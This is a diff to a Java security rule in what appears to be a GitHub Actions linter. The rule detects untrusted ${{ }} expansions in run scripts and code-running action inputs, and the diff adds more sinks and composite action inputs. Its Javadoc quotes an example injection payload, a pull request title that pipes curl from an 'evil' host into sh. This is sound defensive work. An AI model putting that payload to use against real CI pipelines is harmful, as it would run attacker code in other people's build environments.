@@ -12,22 +12,40 @@ import dev.pipewright.lint.yaml.YMap;
 import dev.pipewright.lint.yaml.YScalar;
 import java.util.ArrayList;
 import java.util.HashMap;
+import java.util.HashSet;
 import java.util.List;
 import java.util.Locale;
 import java.util.Map;
 import java.util.Optional;
+import java.util.Set;
 
 /**
- * Attacker-controlled text expanded by {@code ${{ }}} into a {@code run:} script or an {@code actions/github-script}
- * {@code script:}: the runner pastes the text into the script before the shell or node parses it, so a pull request
- * title such as {@code "; curl evil | sh #} runs as code.
+ * Attacker-controlled text expanded by {@code ${{ }}} into a {@code run:} script or an input a well-known action runs
+ * as code ({@link InjectionSinks}: {@code actions/github-script}'s {@code script}, {@code azure/cli}'s
+ * {@code inlineScript}, {@code mikefarah/yq}'s {@code cmd}, ...): the runner pastes the text into the script before the
+ * shell or interpreter parses it, so a pull request title such as {@code "; curl evil | sh #} runs as code. In a
+ * composite action the action's own {@code inputs.*} count as attacker-controlled, as zizmor rates them: the action
+ * cannot know what its callers pass.
  */
 @Rule(id = "template-injection", summary = "untrusted contexts are not expanded into run scripts or github-script code",
         severity = Severity.ERROR, category = "security")
 @Audit(severity = Audit.Level.HIGH, confidence = Audit.Confidence.HIGH, fixable = true)
 public final class TemplateInjectionAudit extends AuditRule {
-    /** One untrusted expansion: the scalar, the expression and the untrusted path it reads. */
-    public record Injection(YScalar script, Exprs.Span span, String path, boolean run) {}
+    /**
+     * One untrusted expansion: the scalar, the expression, the untrusted path it reads, whether the scalar is a
+     * {@code run:} script, and otherwise the action and input that run it as code.
+     */
+    public record Injection(YScalar script, Exprs.Span span, String path, boolean run, String sink) {
+        /** What the scalar is, for messages: "run script", "github-script code", "azure/cli inlineScript input". */
+        String where() {
+            return run ? "run script" : sink.equals("actions/github-script script") ? "github-script code" : sink + " input";
+        }
+
+        /** How the code reads the value once it is in the environment. */
+        String read(String var) {
+            return run ? "\"$" + var + "\"" : sink.startsWith("actions/github-script ") ? "process.env." + var : "$" + var;
+        }
+    }
 
     /** The job whose workflow- and job-level env {@link #jobCarried} holds. */
     private YScalar carriedJob;
@@ -70,10 +88,26 @@ public final class TemplateInjectionAudit extends AuditRule {
             return;
         }
         YMap body = step.body();
-        body.scalar("run").filter(YScalar::isString).ifPresent(run -> reportEnv(run, true, carried));
-        if (body.string("uses").flatMap(Uses::parse).map(u -> u.is("actions/github-script")).orElse(false)) {
-            body.map("with").flatMap(w -> w.scalar("script")).filter(YScalar::isString).ifPresent(sc -> reportEnv(sc, false, carried));
+        for (Target t : targets(body)) {
+            reportEnv(t, carried);
         }
+    }
+
+    /** A scalar that runs as code: a {@code run:} script or a sink input of a known action. */
+    private record Target(YScalar script, boolean run, String sink) {}
+
+    private static List<Target> targets(YMap step) {
+        List<Target> out = new ArrayList<>();
+        step.scalar("run").filter(YScalar::isString).ifPresent(run -> out.add(new Target(run, true, null)));
+        step.string("uses").flatMap(InjectionSinks::of).ifPresent(inputs -> step.map("with").ifPresent(with -> {
+            for (YMap.Entry e : with.entries()) {
+                if (inputs.contains(e.key().value().toLowerCase(Locale.ROOT)) && e.value() instanceof YScalar v && v.isString()) {
+                    String action = step.string("uses").flatMap(Uses::parse).map(u -> u.repository().toLowerCase(Locale.ROOT)).orElseThrow();
+                    out.add(new Target(v, false, action + " " + e.key().value()));
+                }
+            }
+        }));
+        return out;
     }
 
     /** Adds an env layer's untrusted values to {@code carried}, and drops the names it sets to anything else. */
@@ -89,17 +123,20 @@ public final class TemplateInjectionAudit extends AuditRule {
         }));
     }
 
-    private void reportEnv(YScalar script, boolean run, Map<String, String[]> carried) {
+    private void reportEnv(Target t, Map<String, String[]> carried) {
+        YScalar script = t.script();
         for (Exprs.Span span : Exprs.spans(script.value())) {
             if (span.ast() == null || Exprs.isBooleanValued(span.ast())
                     || Exprs.accesses(span.ast()).stream().anyMatch(Untrusted::isUntrusted)) {
-                continue; // direct expansions are reported by check()
+                continue; // direct expansions are reported by reportAll()
             }
             Exprs.accesses(span.ast()).stream().filter(a -> a.path().startsWith("env.")).map(a -> carried.get(a.path().substring(4)))
-                    .filter(c -> c != null).findFirst().ifPresent(c -> report(Locator.at(ctx(), script, span.start()),
-                            "\"" + span.whole(script.value()).strip() + "\" expands env." + c[0] + ", which carries attacker-controlled "
-                            + c[1] + ", into the " + (run ? "run script" : "github-script code") + "; use "
-                            + (run ? "\"$" + c[0] + "\"" : "process.env." + c[0]) + " instead"));
+                    .filter(c -> c != null).findFirst().ifPresent(c -> {
+                        Injection as = new Injection(script, span, c[1], t.run(), t.sink());
+                        report(Locator.at(ctx(), script, span.start()), "\"" + span.whole(script.value()).strip()
+                                + "\" expands env." + c[0] + ", which carries attacker-controlled " + c[1] + ", into the "
+                                + as.where() + "; use " + as.read(c[0]) + " instead");
+                    });
         }
     }
 
@@ -118,39 +155,52 @@ public final class TemplateInjectionAudit extends AuditRule {
 
     @Override
     public void visitAction(LintContext.ActionFile action) {
-        compositeSteps(action).forEach(step -> reportAll(find(step), null));
+        // An action's inputs are whatever its callers pass, pull request titles included: zizmor rates them arbitrary.
+        Set<String> inputs = new HashSet<>();
+        action.root().map("inputs").ifPresent(m -> m.entries().forEach(e -> inputs.add(e.key().value().toLowerCase(Locale.ROOT))));
+        compositeSteps(action).forEach(step -> reportAll(find(step, inputs), null));
     }
 
-    /** Reports each expansion; {@code runFix} (null: none) moves those in a run script, the github-script ones stay. */
+    /** Reports each expansion; {@code runFix} (null: none) moves those in a run script, the other sinks' stay. */
     private void reportAll(List<Injection> found, Fix runFix) {
         for (Injection i : found) {
-            String where = i.run() ? "run script" : "github-script code";
+            String var = EnvName.of(i.path());
             report(Locator.at(ctx(), i.script(), i.span().start()), "\"" + i.span().whole(i.script().value()).strip()
-                    + "\" expands attacker-controlled " + i.path() + " into the " + where + "; pass it through the step's"
-                    + " env: (e.g. " + EnvName.of(i.path()) + ": ${{ " + i.span().text().strip() + " }}) and use the variable"
-                    + (i.run() ? " (\"$" + EnvName.of(i.path()) + "\")" : " (process.env." + EnvName.of(i.path()) + ")"),
-                    i.run() ? runFix : null);
+                    + "\" expands " + (i.path().startsWith("inputs.") ? "the action input " : "attacker-controlled ")
+                    + i.path() + " into the " + i.where() + "; pass it through the step's env: (e.g. " + var + ": ${{ "
+                    + i.span().text().strip() + " }}) and use the variable (" + i.read(var) + ")", i.run() ? runFix : null);
         }
     }
 
-    /** The untrusted expansions of a step, in source order. */
+    /** The untrusted expansions of a workflow step, in source order. */
     public static List<Injection> find(YMap step) {
+        return find(step, Set.of());
+    }
+
+    /**
+     * The untrusted expansions of a step, in source order; {@code inputs} are the lower-cased names of the inputs of
+     * the composite action the step belongs to, whose values its callers choose.
+     */
+    public static List<Injection> find(YMap step, Set<String> inputs) {
         List<Injection> out = new ArrayList<>();
-        step.scalar("run").filter(YScalar::isString).ifPresent(run -> scan(run, true, out));
-        boolean githubScript = step.string("uses").flatMap(Uses::parse).map(u -> u.is("actions/github-script")).orElse(false);
-        if (githubScript) {
-            step.map("with").flatMap(w -> w.scalar("script")).filter(YScalar::isString).ifPresent(s -> scan(s, false, out));
+        for (Target t : targets(step)) {
+            scan(t, inputs, out);
         }
         return out;
     }
 
-    private static void scan(YScalar script, boolean run, List<Injection> out) {
+    private static void scan(Target t, Set<String> inputs, List<Injection> out) {
+        YScalar script = t.script();
         for (Exprs.Span span : Exprs.spans(script.value())) {
             if (span.ast() == null || Exprs.isBooleanValued(span.ast())) {
                 continue;
             }
-            Exprs.accesses(span.ast()).stream().filter(Untrusted::isUntrusted).findFirst()
-                    .ifPresent(a -> out.add(new Injection(script, span, a.path(), run)));
+            Exprs.accesses(span.ast()).stream().filter(a -> Untrusted.isUntrusted(a) || isInput(a.path(), inputs))
+                    .findFirst().ifPresent(a -> out.add(new Injection(script, span, a.path(), t.run(), t.sink())));
         }
+    }
+
+    private static boolean isInput(String path, Set<String> inputs) {
+        return path.startsWith("inputs.") && inputs.contains(path.substring(7).toLowerCase(Locale.ROOT));
     }
 }
